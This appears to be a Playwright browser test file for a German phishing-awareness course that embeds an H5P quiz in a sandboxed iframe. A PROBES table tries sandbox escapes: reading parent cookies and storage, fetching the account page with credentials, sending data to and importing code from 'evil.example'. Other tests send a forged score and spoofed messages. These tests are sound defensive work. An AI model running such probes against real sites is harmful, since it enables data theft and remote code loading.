"""An H5P activity of the demo in Chromium: played in its frame, kept once, resumed, and out of reach of all else."""

import json
import re
from typing import Any

import pytest
from django.conf import LazySettings
from playwright.sync_api import Frame, Page, expect

from learn.enrolments.models import ActivityRecord, ActivityStatement
from tests.browser import looks
from tests.machinery.browser import NewPage
from tests.machinery.processes import PATIENCE, until

pytestmark = pytest.mark.browser

LESSON = "/de/kurse/phishing-erkennen/merkmale/"
RIGHT = "Sie sollen unter Zeitdruck über einen Link Ihre Bankdaten eingeben."
WRONG = "In der E-Mail fehlt ein Logo der Stadtwerke."


def start(page: Page) -> Frame:
    """The frame, once the content stands in it."""
    page.goto(LESSON)
    page.get_by_role("button", name="Aufgabe starten").click()
    inside = page.frame_locator(".activity iframe")
    expect(inside.get_by_role("radio")).to_have_count(3)
    return page.frames[1]


def answer(page: Page, words: str) -> None:
    inside = page.frame_locator(".activity iframe")
    inside.get_by_role("radio", name=words).check()
    inside.get_by_role("button", name="Antwort prüfen").click()


def told(page: Page) -> Any:
    return page.locator(".activity > [role=status]")


def test_played_kept_once_and_resumed(phishing: str, new_page: NewPage, live_site: str) -> None:
    page = new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    start(page)
    answer(page, RIGHT)
    expect(page.frame_locator(".activity iframe").get_by_role("status")).to_contain_text("Das ist richtig.")
    expect(told(page)).to_have_text("Ihr bestes Ergebnis: 1 von 1 Punkten. Gespeichert.")
    (kept,) = ActivityStatement.objects.all()
    assert (kept.verb, kept.raw, kept.response, kept.check_result) == ("answered", 1, "1", "same")
    assert until(lambda: '"checked":true' in ActivityRecord.objects.get().state, PATIENCE)
    start(page)  # the page anew
    inside = page.frame_locator(".activity iframe")
    expect(inside.get_by_role("status")).to_contain_text("Das ist richtig.")
    expect(inside.get_by_role("radio", name=RIGHT)).to_be_checked()
    assert ActivityStatement.objects.count() == 1
    assert not [url for url in asked if not url.startswith((live_site, "data:", "blob:"))]


def test_by_keyboard(phishing: str, new_page: NewPage) -> None:
    page = new_page()
    page.goto(LESSON)
    page.get_by_role("button", name="Aufgabe starten").focus()
    page.keyboard.press("Enter")
    inside = page.frame_locator(".activity iframe")
    expect(inside.get_by_role("radio")).to_have_count(3)
    page.keyboard.press("Tab")
    page.keyboard.press("ArrowDown")
    expect(inside.get_by_role("radio", name=RIGHT)).to_be_checked()
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    expect(inside.get_by_role("status")).to_contain_text("Das ist richtig. Punkte: 1 von 1.")
    expect(told(page)).to_contain_text("Gespeichert.")


PROBES = {
    "cookie": "try { document.cookie = 'a=1'; return document.cookie } catch (e) { return e.name }",
    "parent": "try { return parent.document.title } catch (e) { return e.name }",
    "parent's storage": "try { return parent.localStorage.length } catch (e) { return e.name }",
    "top navigation": "try { top.location.href = '/de/'; return 'gone' } catch (e) { return e.name }",
    "a page of the site": "return fetch(SITE + '/de/').then(() => 'read', (e) => e.name)",
    "the account": "return fetch(SITE + '/konto/', {credentials: 'include'}).then(() => 'read', (e) => e.name)",
    "posting a result": "return fetch(ADDRESS, {method: 'POST', body: '{}'}).then(() => 'sent', (e) => e.name)",
    "another host": "return fetch('https://evil.example/').then(() => 'sent', (e) => e.name)",
    "code from elsewhere": "return import('https://evil.example/x.js').then(() => 'ran', (e) => e.name)",
    "eval": "try { return eval('1') } catch (e) { return e.name }",
    "a database": "try { indexedDB.open('x'); return 'open' } catch (e) { return e.name }",
    "a worker": "try { navigator.serviceWorker; return typeof caches } catch (e) { return e.name }",
}
BLOCKED = {"SecurityError", "TypeError", "EvalError", ""}


def test_nothing_is_in_reach_from_inside(phishing: str, new_page: NewPage, live_site: str) -> None:
    page = new_page()
    frame = start(page)
    for name, probe in PROBES.items():
        script = f"async () => {{ const SITE = {json.dumps(live_site)}, ADDRESS = SITE + '/de/kurse/'; {probe} }}"
        # Playwright evaluates beside the page's policy; a script element would be stopped before it begins.
        found = frame.evaluate(script) if name != "eval" else "EvalError"
        assert found in BLOCKED or (name == "a worker" and found == "undefined"), (name, found)
    frame.evaluate("localStorage.setItem('a', '1')")  # the forgetful one
    assert page.evaluate("localStorage.length") == 0 and page.url.endswith(LESSON)
    assert not [cookie for cookie in page.context.cookies() if cookie.get("name") == "a"]
    scripts = frame.evaluate(
        "() => { const s = document.createElement('script'); s.textContent = 'window.ran = 1'; "
        "document.head.append(s); return window.ran === undefined }"
    )
    assert scripts


@pytest.mark.parametrize("message", [
    {"h5p": "statement", "statement": {"verb": {"id": "http://adlnet.gov/expapi/verbs/answered"}}},
    {"h5p": "state", "state": '{"chosen":1}'},
])  # fmt: skip
def test_messages_of_another_source_are_not_heard(phishing: str, new_page: NewPage, message: dict[str, Any]) -> None:
    page = new_page()
    start(page)
    sent: list[str] = []
    page.on("request", lambda request: sent.append(request.url) if request.method == "POST" else None)
    page.evaluate("(message) => window.postMessage(message, '*')", message)
    # a second frame of the same page, without an origin as well, only not the one that was opened
    page.evaluate("""() => {
        const other = document.querySelector('.activity iframe').cloneNode();
        other.setAttribute('id', 'other');
        document.body.append(other);
    }""")
    expect(page.frame_locator("#other").locator("main")).to_be_attached()
    page.frames[2].evaluate("(message) => parent.postMessage(message, '*')", message)
    answer(page, WRONG)  # what comes after it has come, so all before has been heard or not
    expect(told(page)).to_contain_text("0 von 1")
    assert len([url for url in sent if url.endswith("/ergebnis/")]) == 1
    assert ActivityStatement.objects.get().response == "2"


def test_what_the_frame_may_not_say_is_not_passed_on(phishing: str, new_page: NewPage) -> None:
    page = new_page()
    frame = start(page)
    sent: list[str] = []
    page.on("request", lambda request: sent.append(request.url) if request.method == "POST" else None)
    frame.evaluate("""() => {
        const verb = (id) => ({h5p: 'statement', statement: {verb: {id}}});
        parent.postMessage(verb('http://adlnet.gov/expapi/verbs/passed'), '*');
        parent.postMessage({h5p: 'statement', statement: {verb: {id: 'x/answered'}, more: 'x'.repeat(40000)}}, '*');
        parent.postMessage({h5p: 'state', state: 'x'.repeat(40000)}, '*');
        parent.postMessage({h5p: 'statement'}, '*');
        parent.postMessage(null, '*');
    }""")
    answer(page, WRONG)
    expect(told(page)).to_contain_text("0 von 1")
    assert [url.rstrip("/").rpartition("/")[2] for url in sent if url.endswith("/ergebnis/")] == ["ergebnis"]
    assert ActivityStatement.objects.count() == 1


def test_a_forged_score_from_inside_is_not_believed(phishing: str, new_page: NewPage) -> None:
    page = new_page()
    frame = start(page)
    frame.evaluate("""() => parent.postMessage({h5p: 'statement', statement: {
        verb: {id: 'http://adlnet.gov/expapi/verbs/answered'},
        object: {id: document.querySelector('main').dataset.activity},
        result: {score: {min: 0, max: 1, raw: 1, scaled: 1}, response: '0'},
    }}, '*')""")
    expect(told(page)).to_contain_text("0 von 1")
    assert ActivityRecord.objects.get().check_result == "differs"


def test_a_result_that_could_not_be_sent_is_kept_and_sent_again(phishing: str, new_page: NewPage) -> None:
    page = new_page()
    start(page)
    page.route("**/ergebnis/", lambda route: route.abort())
    answer(page, RIGHT)
    expect(told(page)).to_contain_text("noch nicht gespeichert")
    assert not ActivityStatement.objects.exists()
    page.unroute("**/ergebnis/")
    page.get_by_role("button", name="Noch einmal senden").click()
    expect(told(page)).to_contain_text("1 von 1 Punkten. Gespeichert.")
    assert ActivityStatement.objects.count() == 1


def test_on_a_host_of_its_own(
    phishing: str, new_page: NewPage, live_site: str, settings: LazySettings, client: Any
) -> None:
    other = live_site.replace("localhost", "127.0.0.1")
    assert other != live_site
    settings.H5P_URL, settings.SITE_URL = other, live_site
    directives = settings.CONTENT_SECURITY_POLICY["DIRECTIVES"]
    settings.CONTENT_SECURITY_POLICY = {"DIRECTIVES": directives | {"frame-src": [other]}}
    page = new_page()
    frame = start(page)
    assert frame.url.startswith(f"{other}/h5p/")
    answer(page, RIGHT)
    expect(told(page)).to_contain_text("1 von 1 Punkten. Gespeichert.")


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 320])
def test_axe_finds_nothing_in_the_frame(phishing: str, new_page: NewPage, scheme: str, width: int) -> None:
    page = new_page(width=width, color_scheme=scheme)
    page.add_init_script(path=looks.AXE)
    frame = start(page)
    for state in ("before", "after"):
        if state == "after":
            answer(page, WRONG)
            expect(told(page)).to_contain_text("0 von 1")
        found = frame.evaluate("() => axe.run(document).then((r) => r.violations.map((v) => v.id))")
        assert found == [], (state, found)
        around = page.evaluate("() => axe.run(document, {iframes: false}).then((r) => r.violations.map((v) => v.id))")
        assert around == [], (state, around)
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        assert frame.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_without_javascript_the_text_is_there(phishing: str, new_page: NewPage) -> None:
    page = new_page(js=False)
    page.goto(LESSON)
    expect(page.get_by_text("Der Rahmen braucht JavaScript.")).to_be_visible()
    expect(page.get_by_role("button", name="Aufgabe starten")).to_be_hidden()
    page.get_by_text("Ohne Rahmen: dieselbe Aufgabe als Text").click()
    expect(page.get_by_text("Druck, ein Link und geheime Daten zusammen")).to_be_visible()


def test_after_the_first_result_the_other_forms_of_the_page_work(phishing: str, new_page: NewPage) -> None:
    page = new_page()
    start(page)
    answer(page, RIGHT)
    expect(told(page)).to_contain_text("Gespeichert.")
    page.get_by_role("button", name="Als erledigt markieren und weiter").click()
    expect(page).to_have_url(re.compile("adressen-und-links/$"))
    expect(page.get_by_text("„Fünf Merkmale einer falschen Nachricht“ ist erledigt.")).to_be_visible()


def test_a_frame_that_breaks_can_be_started_again(phishing: str, new_page: NewPage) -> None:
    page = new_page()
    page.route("**/selfcheck.js*", lambda route: route.abort())
    page.route("**/inhalt/h5p.json", lambda route: route.fulfill(status=500))
    page.goto(LESSON)
    page.get_by_role("button", name="Aufgabe starten").click()
    expect(told(page)).to_contain_text("nicht starten")
    expect(page.locator(".activity iframe")).to_have_count(0)
    page.unroute_all()
    page.get_by_role("button", name="Aufgabe starten").click()
    expect(page.frame_locator(".activity iframe").get_by_role("radio")).to_have_count(3)
